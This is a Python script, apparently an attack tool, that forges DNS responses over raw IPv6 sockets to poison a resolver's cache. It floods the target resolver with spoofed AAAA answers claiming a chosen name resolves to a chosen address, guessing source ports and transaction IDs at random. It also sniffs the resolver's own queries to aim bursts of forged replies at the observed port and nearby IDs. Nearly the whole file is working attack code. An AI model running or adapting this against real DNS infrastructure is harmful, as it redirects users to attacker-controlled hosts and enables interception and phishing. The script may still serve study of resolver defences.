#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Answers in the name of a DNS server, as fast as it can.

usage: forger.py INTERFACE SERVER PROXY NAME ADDRESS REPORT

To every port of PROXY (IPv6) that could be waiting, answers of SERVER that NAME
is at ADDRESS go out, with an ID that is guessed. Questions for NAME that pass
INTERFACE betray their port: each gets a burst of answers that have everything
but its ID. Writes to REPORT, each half second, how many it has sent blindly and
how many at a port that it knew.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

BURST = 300
FIRST, LAST = 32768, 60999


def sum16(data):
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


class Forger:
    def __init__(self, server, proxy, name, address):
        self.proxy = proxy
        wire = b"".join(bytes([len(part)]) + part.encode()
                        for part in name.split(".")) + b"\0"
        self.question = wire + struct.pack("!HH", 28, 1)
        self.rest = struct.pack("!HHHHH", 0x8580, 1, 1, 0, 0) + \
            self.question + struct.pack("!HHHIH", 0xc00c, 28, 1, 3600, 16) + \
            ipaddress.ip_address(address).packed
        self.length = 8 + 2 + len(self.rest)
        ends = ipaddress.ip_address(server).packed + \
            ipaddress.ip_address(proxy).packed
        self.ip = struct.pack("!IHBB", 6 << 28, self.length, 17, 64) + ends
        # Of all but port, ID and the sum itself.
        self.sum = sum16(ends) + 17 + 2 * self.length + 53 + sum16(self.rest)
        self.out = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)

    def send(self, port, ident):
        total = self.sum + port + ident
        while total >> 16:
            total = (total & 0xffff) + (total >> 16)
        udp = struct.pack("!HHHHH", 53, port, self.length,
                          ~total & 0xffff or 0xffff, ident)
        try:
            self.out.sendto(self.ip + udp + self.rest, (self.proxy, 0))
        except BlockingIOError:
            pass

    def asked(self, frame):
        """The port and the ID of a question for our name, or None."""
        if frame[12:14] != b"\x86\xdd" or frame[20] != 17:
            return None
        port, to = struct.unpack("!HH", frame[54:58])
        if to != 53 or self.question not in frame[62:]:
            return None
        return port, struct.unpack("!H", frame[62:64])[0]


def main():
    interface, server, proxy, name, address, report = sys.argv[1:]
    forger = Forger(server, proxy, name, address)
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                         socket.htons(0x0003))
    seen.bind((interface, 0))
    seen.setblocking(False)
    blind = known = 0
    told = 0.0
    while True:
        try:
            at = forger.asked(seen.recv(2048))
        except BlockingIOError:
            at = None
        if at:
            for k in range(1, BURST + 1):
                forger.send(at[0], (at[1] + k) & 0xffff)
            known += BURST
        forger.send(random.randint(FIRST, LAST), random.getrandbits(16))
        blind += 1
        if time.monotonic() - told > 0.5:
            told = time.monotonic()
            with open(report, "w", encoding="ascii") as f:
                f.write(f"{blind} {known}\n")


main()
